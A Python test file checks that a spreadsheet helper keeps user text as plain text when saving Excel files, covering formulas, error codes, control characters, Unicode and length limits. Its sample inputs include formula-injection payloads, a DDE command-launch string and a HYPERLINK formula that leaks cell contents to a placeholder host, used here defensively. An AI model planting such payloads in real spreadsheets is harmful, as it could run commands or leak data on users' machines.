"""hpdocs.textsafe: user text stays text, whatever it looks like, through save and reload."""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from python_calamine import CalamineWorkbook

from hpdocs.textsafe import EXCEL_MAX_CELL_CHARS, safe_cell_text, write_text_cell

FORMULA_LIKE = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")',
    "=cmd|' /C calc'!A0",
    "+46 70 123 45 67",
    "-5 % jämfört med förra året",
    "@SUMMA(A1:A3)",
    "=",
]


def round_trip(tmp_path: Path, values: list[str]) -> tuple[openpyxl.Workbook, str, list[object]]:
    """Write `values` down column A, save, and read back: openpyxl, raw XML, calamine."""
    wb = openpyxl.Workbook()
    for row, value in enumerate(values, start=1):
        write_text_cell(wb.active.cell(row=row, column=1), value)
    path = tmp_path / "ut.xlsx"
    wb.save(path)
    with zipfile.ZipFile(path) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
    workbook = CalamineWorkbook.from_path(str(path))
    try:
        rows = workbook.get_sheet_by_index(0).to_python()
    finally:
        workbook.close()
    return openpyxl.load_workbook(path), xml, [row[0] for row in rows]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_formula_like_text_is_stored_as_text(tmp_path: Path, text: str) -> None:
    reloaded, xml, read_back = round_trip(tmp_path, [text])
    cell = reloaded.active["A1"]
    assert (cell.value, cell.data_type) == (text, "s")
    assert "<f>" not in xml and "<f " not in xml  # no app would see a formula
    assert read_back == [text]
    assert cell.quotePrefix  # Excel keeps it text when someone edits the cell


def test_error_codes_are_stored_as_text(tmp_path: Path) -> None:
    reloaded, xml, read_back = round_trip(tmp_path, ["#N/A", "#DIV/0!"])
    assert [(c.value, c.data_type) for c in reloaded.active["A"]] == [
        ("#N/A", "s"),
        ("#DIV/0!", "s"),
    ]
    assert 't="e"' not in xml
    assert read_back == ["#N/A", "#DIV/0!"]


def test_ordinary_text_gets_no_quote_prefix(tmp_path: Path) -> None:
    reloaded, _, _ = round_trip(tmp_path, ["Åtgärd 1 – klar"])
    assert not reloaded.active["A1"].quotePrefix


def test_control_characters_are_removed_not_fatal(tmp_path: Path) -> None:
    raw = "Rad\x00 ett\x07\x0b\x1b\tflik\nny rad\r\nslut\ufffe\uffff\ud800"
    assert safe_cell_text(raw) == "Rad ett\tflik\nny rad\r\nslut"
    reloaded, _, read_back = round_trip(tmp_path, [raw])
    assert reloaded.active["A1"].value == "Rad ett\tflik\nny rad\r\nslut"
    assert read_back == ["Rad ett\tflik\nny rad\r\nslut"]


def test_emoji_rtl_and_swedish_letters_stay(tmp_path: Path) -> None:
    text = "Åsa Öberg 👩‍⚕️ שלום مرحبا ÆØÅ æøå"
    assert safe_cell_text(text) == text
    assert round_trip(tmp_path, [text])[2] == [text]


def test_long_text_is_cut_to_one_cell_and_marked(tmp_path: Path) -> None:
    text = "abcdefghij" * 4000
    cut = safe_cell_text(text)
    assert len(cut) == EXCEL_MAX_CELL_CHARS
    assert cut == text[: EXCEL_MAX_CELL_CHARS - 1] + "…"
    exact = "x" * EXCEL_MAX_CELL_CHARS
    assert safe_cell_text(exact) == exact
    reloaded, _, _ = round_trip(tmp_path, [text])
    assert reloaded.active["A1"].value == cut


def test_emoji_count_twice_towards_the_limit() -> None:
    """Excel counts UTF-16 units: 20,000 emoji are 40,000 of them."""
    cut = safe_cell_text("😀" * 20_000)
    assert cut.endswith("…")
    assert len(cut.encode("utf-16-le")) // 2 <= EXCEL_MAX_CELL_CHARS
    assert cut[:-1] == "😀" * ((EXCEL_MAX_CELL_CHARS - 1) // 2)


def test_literal_ooxml_escape_survives(tmp_path: Path) -> None:
    """Excel, LibreOffice and calamine read `_x0041_` as "A" unless its `_` is escaped."""
    assert round_trip(tmp_path, ["Mapp _x0041_ och _x000D_"])[2] == ["Mapp _x0041_ och _x000D_"]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.text(alphabet=st.characters(blacklist_categories=()), min_size=1, max_size=300)
    | st.from_regex(r"\A[=+@-]?(_x[0-9A-F]{4}_|[\x00-\x1f]|[a-zå ])*\Z")
)
def test_any_text_is_saved_and_read_back_as_text(tmp_path: Path, text: str) -> None:
    safe = safe_cell_text(text)
    assert safe_cell_text(safe) == safe
    assert not ILLEGAL_CHARACTERS_RE.search(safe)
    _, xml, read_back = round_trip(tmp_path, [text])
    assert "<f>" not in xml
    assert read_back == ([safe] if safe else [])
